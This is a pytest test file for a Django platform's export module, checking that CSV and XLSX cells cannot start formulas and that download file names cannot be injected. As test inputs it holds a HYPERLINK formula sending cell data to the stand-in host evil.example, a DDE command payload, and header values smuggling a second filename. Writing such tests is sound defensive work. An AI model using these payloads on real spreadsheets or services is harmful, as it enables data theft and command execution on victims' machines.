"""Exports that cannot carry formulas (finding 2) and file names that cannot be injected (8).

Every CSV/XLSX the platform hands out goes through ``aimak_web.core.exports``: a cell holding
user text that starts with ``= + - @``, a tab or a carriage return reaches the spreadsheet as
text. Each export is checked end to end with a formula typed where its users type text.
"""

from __future__ import annotations

import csv
import io
from email.message import Message
from email.utils import collapse_rfc2231_value

import pytest
from django.urls import reverse
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import Workbook, load_workbook

from aimak_web.core.exports import FORMULA_START, append_row, attachment, neutralise, xlsx_bytes

EVIL = '=HYPERLINK("http://evil.example/?"&A2,"Подробнее")'


def _csv(response) -> list[list[str]]:
    body = b"".join(response.streaming_content) if response.streaming else response.content
    return list(csv.reader(io.StringIO(body.decode("utf-8-sig"))))


def _cells_starting_with_formula(rows) -> list[str]:
    return [c for row in rows for c in row if c.startswith(FORMULA_START)]


def _disposition(response) -> tuple[str, dict]:
    """The header as a mail parser (RFC 2231 aware) reads it: the type and its parameters."""
    msg = Message()
    msg["content-disposition"] = response["Content-Disposition"]
    return msg.get_content_disposition(), dict(msg.get_params(header="content-disposition")[1:])


# --- the neutraliser ------------------------------------------------------------------------

@given(st.text())
def test_neutralised_text_never_starts_a_formula_and_keeps_the_text(text):
    out = neutralise(text)
    assert not out.startswith(FORMULA_START)
    assert out in (text, "'" + text)


@pytest.mark.parametrize("value", [-5, 3.5, None, 0])
def test_numbers_and_blanks_pass_unchanged(value):
    assert neutralise(value) == value


def test_xlsx_text_is_text_even_when_it_looks_like_a_formula():
    wb = Workbook()
    append_row(wb.active, [EVIL, "+996555", "plain", -3, None])
    ws = load_workbook(io.BytesIO(xlsx_bytes(wb))).active
    assert [c.data_type for c in ws[1]][:4] == ["s", "s", "s", "n"]
    assert ws["A1"].value == EVIL and ws["A1"].quotePrefix  # the text, kept as written
    assert not ws["C1"].quotePrefix


# --- each export, end to end -------------------------------------------------------------------

@pytest.fixture
def hearing_ctx(places, users):
    from . import perm_hearings

    ctx = {"places": places, "users": users}
    perm_hearings.setup(ctx)
    return ctx


@pytest.mark.django_db
def test_hearing_csv_proposal_title_is_not_a_formula(client, hearing_ctx):
    p = hearing_ctx["proposal"]
    p.title = EVIL
    p.save(update_fields=["title"])
    rows = _csv(client.get(reverse("hearings:export", args=[hearing_ctx["open"].pk, "csv"])))
    titles = [r[rows[0].index("proposal_title")] for r in rows[1:]]
    assert titles == ["'" + EVIL]
    assert _cells_starting_with_formula(rows) == []


@pytest.mark.django_db
def test_scores_xlsx_juror_comment_is_text(client, places, users):
    from aimak_web.contests.models import Score

    from . import perm_contests

    ctx = {"places": places, "users": users}
    perm_contests.setup(ctx)
    Score.objects.filter(application=ctx["contests"]["old_app"]).update(comment=EVIL)
    client.force_login(users["admin"])
    r = client.get(reverse("contests:export", args=[2025]))
    wb = load_workbook(io.BytesIO(r.content))
    cells = [c for ws in wb.worksheets for row in ws.iter_rows() for c in row]
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    comments = [c for c in cells if c.value == EVIL]
    assert comments and all(c.data_type == "s" and c.quotePrefix for c in comments)


@pytest.mark.django_db
def test_practices_csv_text_is_not_a_formula(client, users):
    from .perm_practices import make_practice

    make_practice(users["citizen"], "published", title_ru="@SUM(1+1)*cmd|' /C calc'!A0",
                  problem_ru="-2+3", solution_ru="\t=1", results_ru="\r=2")
    rows = _csv(client.get(reverse("practices:open_csv")))
    assert _cells_starting_with_formula(rows) == []
    head = rows[0]
    assert rows[1][head.index("title_ru")] == "'@SUM(1+1)*cmd|' /C calc'!A0"
    assert rows[1][head.index("problem_ru")] == "'-2+3"


@pytest.mark.django_db
def test_audit_csv_object_text_is_not_a_formula(client, users):
    from auditlog.models import LogEntry
    from django.contrib.contenttypes.models import ContentType

    LogEntry.objects.create(content_type=ContentType.objects.get_for_model(users["citizen"]),
                            object_pk="1", object_repr=EVIL, action=LogEntry.Action.UPDATE,
                            changes={"full_name": ["a", "=1+1"]}, actor=users["admin"])
    client.force_login(users["admin"])
    rows = _csv(client.get(reverse("core:audit_export")))
    assert _cells_starting_with_formula(rows) == []
    assert [c for row in rows for c in row if EVIL in c] == ["'" + EVIL]


@pytest.mark.django_db
def test_scenario_csv_unit_names_are_not_formulas(client, users):
    from aimak_web.territory.models import Analysis, Scenario

    analysis = Analysis.objects.create(title="t", dataset_path="x", times_path="y")
    s = Scenario.objects.create(analysis=analysis, title="t", criteria="moderate",
                                origin="today", status="official")
    s.add_version([{"old_code": "41701", "new_unit": "=1+1", "centre": "@x"}], None, "today", {})
    rows = _csv(client.get(reverse("territory:export_csv", args=[s.pk])))
    assert rows[1] == ["41701", "", "'=1+1", "'@x"]


# --- Content-Disposition (finding 8) -----------------------------------------------------------

@pytest.mark.django_db
def test_export_format_cannot_inject_a_second_file_name(client, hearing_ctx):
    pk = hearing_ctx["open"].pk
    url = reverse("hearings:export", args=[pk, "csv"]).replace(
        "export.csv", 'export.csv"; filename=evil.html')
    r = client.get(url)
    assert r.status_code == 404
    assert "evil" not in r.get("Content-Disposition", "")


@pytest.mark.django_db
def test_document_languages_cannot_inject_a_file_name(client, hearing_ctx):
    url = reverse("hearings:notice", args=[hearing_ctx["open"].pk, 'ky"; filename=evil.html'])
    r = client.get(url)
    assert r.status_code == 404


@pytest.mark.parametrize("name", ['hearing-1.csv"; filename=evil.html', "бюджет «2027».csv",
                                  "a\\b.csv"])
def test_attachment_header_carries_one_file_name(name):
    from django.http import HttpResponse

    kind, params = _disposition(attachment(HttpResponse(), name))
    assert kind == "attachment"
    assert list(params) == ["filename"] or list(params) == ["filename*"]
    assert collapse_rfc2231_value(params.get("filename") or params["filename*"]) == name
